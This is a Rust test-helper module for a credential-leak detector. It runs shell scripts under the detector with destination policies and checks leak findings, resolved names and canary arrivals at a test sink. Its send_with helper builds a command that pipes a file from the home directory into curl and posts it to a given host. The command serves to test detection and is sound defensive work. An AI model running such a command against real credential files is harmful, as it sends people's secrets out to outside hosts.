//! Keys spent at hosts by their names: what tests of such destinations have in common.

use crate::{
    resolver::Resolver,
    scene::{PORT, Scene},
    watched::Watched,
};
use detector::{engine::Finding, event::Body};
use std::{collections::BTreeSet, net::IpAddr};

/// A shell's words that send a credential file to a host, whatever comes of it. `curl` gets what `cat` read: a lineage of its own.
pub fn send(file: &str, host: &str) -> String {
    send_with(file, host, "")
}

/// The same with more options of `curl`.
pub fn send_with(file: &str, host: &str, options: &str) -> String {
    format!(
        "cat ~/{file} | curl -s --max-time 5 -o /dev/null {options} --data-binary @- http://{host}:{PORT}/x || true\n"
    )
}

/// Runs a shell's script under the detector, with the name server at its usual place.
pub fn run(scene: &Scene, mode: &'static str, policy: &str, script: &str) -> anyhow::Result<Watched> {
    let job = scene.job(["bash", "-c", script]).policy(policy).mode(mode);
    Watched::run(scene, &job.resolver(Resolver::default()))
}

/// A policy of rows `(name, class)` on the builtin one.
pub fn policy(rows: &[(&str, &str)]) -> String {
    let row = |(name, class): &(&str, &str)| format!("  - {{ to: [\"{name}\"], accept: [{class}] }}\n");
    let rows: String = rows.iter().map(row).collect();
    format!("version: 1\nextends: builtin\ndestinations:\n{rows}")
}

/// Findings of leaks, enforced or inherited.
pub fn leaks(run: &Watched) -> Vec<&Finding> {
    run.conclusion.findings.iter().filter(|finding| finding.rule.starts_with("leak")).collect()
}

/// The names that were learned, with their addresses.
pub fn learned(run: &Watched) -> BTreeSet<(&str, IpAddr)> {
    let names = run.recording.events.iter().filter_map(|event| match &event.body {
        Body::Name(name) => Some(name.addresses.iter().map(|address| (name.name.as_str(), *address))),
        _ => None,
    });
    names.flatten().collect()
}

/// The addresses of the sink that a credential arrived at, once each time.
pub fn arrived(scene: &Scene, credential: &str) -> Vec<IpAddr> {
    let canary = scene.home.canary(credential);
    let all = scene.sink.connections();
    all.iter().filter(|one| canary.is_in(&one.bytes)).filter_map(|one| Some(one.local?.ip())).collect()
}
